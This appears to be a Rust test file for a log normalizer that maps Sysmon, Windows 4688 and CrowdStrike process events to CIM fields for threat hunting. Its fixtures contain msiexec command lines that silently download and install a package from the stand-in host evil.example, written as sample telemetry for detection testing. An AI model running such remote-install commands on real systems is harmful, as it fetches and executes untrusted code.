//! Raw events through decode and normalize, checked field by field against the spec's
//! conformance vectors CV-25…CV-29 (`../shared/spec/SPLUNK_SEMANTICS.md` section 10).

use cimhunt_cim::{CimEvent, Field};
use cimhunt_decode::{Decoded, decode_json, decode_xml};
use cimhunt_normalize::{AidMaster, Normalizer, Options, Outcome, UserDomain};

/// CV-25's Sysmon Event ID 1 line.
const CV25: &str = r#"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2020-10-08T11:03:46.617920300Z'/><EventRecordID>4522</EventRecordID><Correlation/><Execution ProcessID='2912' ThreadID='3424'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>win-dc-6764986.attackrange.local</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2020-10-08 11:03:46.615</Data><Data Name='ProcessGuid'>{96128EA2-F212-5F7E-E400-000000007F01}</Data><Data Name='ProcessId'>2296</Data><Data Name='Image'>C:\Windows\System32\msiexec.exe</Data><Data Name='OriginalFileName'>msiexec.exe</Data><Data Name='CommandLine'>"C:\Windows\System32\msiexec.exe" /q /i http://evil.example/a.msi</Data><Data Name='CurrentDirectory'>C:\Users\ADMINI~1\AppData\Local\Temp\</Data><Data Name='User'>ATTACKRANGE\Administrator</Data><Data Name='IntegrityLevel'>High</Data><Data Name='Hashes'>MD5=F4F684066175B77E0C3A000549D2922C</Data><Data Name='ParentProcessGuid'>{96128EA2-F211-5F7E-DF00-000000007F01}</Data><Data Name='ParentProcessId'>4624</Data><Data Name='ParentImage'>C:\Windows\System32\cmd.exe</Data><Data Name='ParentCommandLine'>"C:\Windows\system32\cmd.exe" /c msiexec</Data></EventData></Event>"#;

/// CV-26's Security 4688 line.
const CV26: &str = r#"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-A5BA-3E3B0328C30D}'/><EventID>4688</EventID><Version>2</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='2024-04-23T08:48:30.449376800Z'/><EventRecordID>432820</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='276'/><Channel>Security</Channel><Computer>ar-win-1</Computer><Security/></System><EventData><Data Name='SubjectUserSid'>S-1-5-21-1-2-3-500</Data><Data Name='SubjectUserName'>Administrator</Data><Data Name='SubjectDomainName'>ATTACKRANGE</Data><Data Name='SubjectLogonId'>0x3e7</Data><Data Name='NewProcessId'>0xf84</Data><Data Name='NewProcessName'>C:\Windows\System32\msiexec.exe</Data><Data Name='TokenElevationType'>%%1936</Data><Data Name='ProcessId'>0xb2c</Data><Data Name='CommandLine'>"C:\Windows\System32\msiexec.exe" /i https://evil.example/a.msi /qn</Data><Data Name='TargetUserSid'>NULL SID</Data><Data Name='TargetUserName'>-</Data><Data Name='TargetDomainName'>-</Data><Data Name='TargetLogonId'>0x0</Data><Data Name='ParentProcessName'>C:\Windows\System32\cmd.exe</Data><Data Name='MandatoryLabel'>Mandatory Label\High Mandatory Level</Data></EventData></Event>"#;

/// CV-29's CrowdStrike ProcessRollup2 event.
const CV29: &str = r#"{"event_simpleName":"ProcessRollup2","timestamp":"1713805173418","aid":"168a90e125d443beb2a4e2914985084d","RawProcessId":"5012","ParentProcessId":"5459598860","ImageFileName":"\\Device\\HarddiskVolume1\\Windows\\System32\\msiexec.exe","CommandLine":"msiexec.exe /i https://evil.example/a.msi","ParentBaseFileName":"explorer.exe","UserSid":"S-1-5-21-586445407-708991241-1829972403-500"}"#;

fn normalize_with(normalizer: &Normalizer, decoded: &Decoded<'_>) -> CimEvent<'static> {
    match normalizer.normalize(decoded) {
        Outcome::Process(e) => e.into_owned(),
        other => panic!("not a process event: {other:?}"),
    }
}

fn xml(line: &str) -> CimEvent<'static> {
    xml_with(line, UserDomain::Strip)
}

fn xml_with(line: &str, user_domain: UserDomain) -> CimEvent<'static> {
    let normalizer = Normalizer::new(Options {
        user_domain,
        ..Options::default()
    });
    let decoded = Decoded::Windows(decode_xml(line.as_bytes()).expect("decodes"));
    normalize_with(&normalizer, &decoded)
}

fn assert_fields(e: &CimEvent<'_>, expected: &[(Field, &str)]) {
    for (f, v) in expected {
        assert_eq!(e.get(*f), Some(*v), "field {f}");
    }
}

#[test]
fn cv25_sysmon_event_id_1() {
    let e = xml(CV25);
    assert_fields(
        &e,
        &[
            (Field::Dest, "win-dc-6764986.attackrange.local"),
            (Field::User, "Administrator"),
            (
                Field::Process,
                r#""C:\Windows\System32\msiexec.exe" /q /i http://evil.example/a.msi"#,
            ),
            (Field::ProcessPath, r"C:\Windows\System32\msiexec.exe"),
            (Field::ProcessName, "msiexec.exe"),
            (Field::OriginalFileName, "msiexec.exe"),
            (
                Field::ParentProcess,
                r#""C:\Windows\system32\cmd.exe" /c msiexec"#,
            ),
            (Field::ParentProcessPath, r"C:\Windows\System32\cmd.exe"),
            (Field::ParentProcessName, "cmd.exe"),
            (Field::ProcessId, "2296"),
            (Field::ParentProcessId, "4624"),
            (Field::ProcessGuid, "{96128EA2-F212-5F7E-E400-000000007F01}"),
            (Field::ProcessIntegrityLevel, "high"),
            (Field::ProcessHash, "MD5=F4F684066175B77E0C3A000549D2922C"),
            (Field::VendorProduct, "Microsoft Sysmon"),
            (Field::Action, "allowed"),
            (Field::UserId, "S-1-5-18"),
        ],
    );
    assert_eq!(
        e.time.unwrap().to_string(),
        "2020-10-08T11:03:46.617920300Z"
    );
    let kept = xml_with(CV25, UserDomain::Keep);
    assert_eq!(kept.get(Field::User), Some(r"ATTACKRANGE\Administrator"));
}

#[test]
fn cv26_security_4688() {
    let e = xml(CV26);
    assert_fields(
        &e,
        &[
            (Field::Dest, "ar-win-1"),
            (Field::User, "Administrator"),
            (Field::ParentProcessName, "cmd.exe"),
            (Field::ProcessName, "msiexec.exe"),
            (Field::OriginalFileName, "unknown"),
            (
                Field::Process,
                r#""C:\Windows\System32\msiexec.exe" /i https://evil.example/a.msi /qn"#,
            ),
            (Field::ProcessId, "0xf84"),
            (Field::ParentProcessId, "0xb2c"),
            (Field::ParentProcess, r"C:\Windows\System32\cmd.exe"),
            (Field::ParentProcessPath, r"C:\Windows\System32\cmd.exe"),
            (Field::Action, "allowed"),
            (Field::VendorProduct, "Microsoft Windows"),
        ],
    );
    assert_eq!(e.get(Field::UserId), None, "<Security/> has no UserID");
    assert_eq!(
        e.time.unwrap().to_string(),
        "2024-04-23T08:48:30.449376800Z"
    );
}

#[test]
fn cv27_command_line_without_a_path_and_target_user() {
    let line = CV26
        .replace(
            r#"<Data Name='CommandLine'>"C:\Windows\System32\msiexec.exe" /i https://evil.example/a.msi /qn</Data>"#,
            "<Data Name='CommandLine'>msiexec /i http://evil.example/a.msi</Data>",
        )
        .replace("<Data Name='TargetUserName'>-</Data>", "<Data Name='TargetUserName'>jdoe</Data>");
    let e = xml(&line);
    assert_eq!(e.get(Field::User), Some("jdoe"));
    assert_eq!(
        e.get(Field::Process),
        Some(r"C:\Windows\System32\msiexec.exe /i http://evil.example/a.msi")
    );
    let spaced = line.replace(
        r"<Data Name='NewProcessName'>C:\Windows\System32\msiexec.exe</Data>",
        r"<Data Name='NewProcessName'>C:\Program Files\Foo\msiexec.exe</Data>",
    );
    let e = xml(&spaced);
    assert_eq!(
        e.get(Field::Process),
        Some(r#""C:\Program Files\Foo\msiexec.exe" /i http://evil.example/a.msi"#)
    );
    assert_eq!(e.get(Field::ProcessName), Some("msiexec.exe"));
}

#[test]
fn cv28_no_command_line_auditing() {
    let cl = r#"<Data Name='CommandLine'>"C:\Windows\System32\msiexec.exe" /i https://evil.example/a.msi /qn</Data>"#;
    for replacement in [
        "",
        "<Data Name='CommandLine'/>",
        "<Data Name='CommandLine'></Data>",
    ] {
        let e = xml(&CV26.replace(cl, replacement));
        assert_eq!(
            e.get(Field::Process),
            Some(r"C:\Windows\System32\msiexec.exe"),
            "{replacement:?}"
        );
    }
}

#[test]
fn cv29_crowdstrike_process_rollup2() {
    let mut inventory = AidMaster::default();
    inventory.insert("168a90e125d443beb2a4e2914985084d", "WIN-HOST1");
    let normalizer = Normalizer::new(Options {
        aidmaster: Some(inventory),
        ..Options::default()
    });
    let decoded = decode_json(CV29.as_bytes()).expect("decodes");
    let e = normalize_with(&normalizer, &decoded);
    assert_fields(
        &e,
        &[
            (Field::Dest, "WIN-HOST1"),
            (Field::User, "S-1-5-21-586445407-708991241-1829972403-500"),
            (Field::ParentProcessName, "explorer.exe"),
            (Field::ProcessName, "msiexec.exe"),
            (Field::OriginalFileName, "unknown"),
            (Field::Process, "msiexec.exe /i https://evil.example/a.msi"),
            (Field::ProcessId, "5012"),
            (Field::ParentProcessId, "5459598860"),
            (Field::ParentProcess, "unknown"),
        ],
    );
    assert_eq!(e.time.unwrap().to_string(), "2024-04-22T16:59:33.418Z");
    // Without an inventory, dest falls back to the aid; ComputerName in the event wins.
    let plain = normalize_with(&Normalizer::default(), &decoded);
    assert_eq!(
        plain.get(Field::Dest),
        Some("168a90e125d443beb2a4e2914985084d")
    );
    let named = CV29.replace(
        r#""aid":"#,
        r#""ComputerName":"LAPTOP-7","UserName":"amy","aid":"#,
    );
    let decoded = decode_json(named.as_bytes()).unwrap();
    let e = normalize_with(&normalizer, &decoded);
    assert_eq!(e.get(Field::Dest), Some("LAPTOP-7"));
    assert_eq!(e.get(Field::User), Some("amy"));
}

#[test]
fn aidmaster_as_json_lines() {
    let m = AidMaster::parse(
        "{\"aid\":\"a1\",\"ComputerName\":\"H1\"}\n\n{\"aid\":\"a2\",\"ComputerName\":\"H2\"}\n",
    )
    .unwrap();
    assert_eq!(m.computer_name("a2"), Some("H2"));
    assert!(AidMaster::parse("{\"aid\":\"a1\"}\n").is_err());
}

#[test]
fn other_event_types_are_counted_not_mapped() {
    let network = CV25.replace("<EventID>1</EventID>", "<EventID>3</EventID>");
    let decoded = Decoded::Windows(decode_xml(network.as_bytes()).unwrap());
    match Normalizer::default().normalize(&decoded) {
        Outcome::Other(kind) => assert_eq!(kind.to_string(), "Sysmon 3"),
        other => panic!("{other:?}"),
    }
    let dns = decode_json(br#"{"event_simpleName":"DnsRequest","timestamp":"1"}"#).unwrap();
    match Normalizer::default().normalize(&dns) {
        Outcome::Other(kind) => assert_eq!(kind.to_string(), "CrowdStrike DnsRequest"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_process_event_without_a_time_is_invalid() {
    let no_time = CV25.replace(
        "<TimeCreated SystemTime='2020-10-08T11:03:46.617920300Z'/>",
        "",
    );
    let decoded = Decoded::Windows(decode_xml(no_time.as_bytes()).unwrap());
    assert!(matches!(
        Normalizer::default().normalize(&decoded),
        Outcome::Invalid(_)
    ));
    let bad = CV25.replace("2020-10-08T11:03:46.617920300Z", "yesterday");
    let decoded = Decoded::Windows(decode_xml(bad.as_bytes()).unwrap());
    assert!(matches!(
        Normalizer::default().normalize(&decoded),
        Outcome::Invalid(_)
    ));
}

#[test]
fn entities_crlf_and_non_ascii_are_kept_verbatim() {
    let line = CV25.replace(
        r#"<Data Name='CommandLine'>"C:\Windows\System32\msiexec.exe" /q /i http://evil.example/a.msi</Data>"#,
        "<Data Name='CommandLine'>msiexec /i http://x.example/a.msi &amp;&amp; calc.exe &lt;é中&gt;\r\nnext </Data>",
    );
    let e = xml(&line);
    assert_eq!(
        e.get(Field::Process),
        Some("msiexec /i http://x.example/a.msi &amp;&amp; calc.exe &lt;é中&gt;\r\nnext ")
    );
}
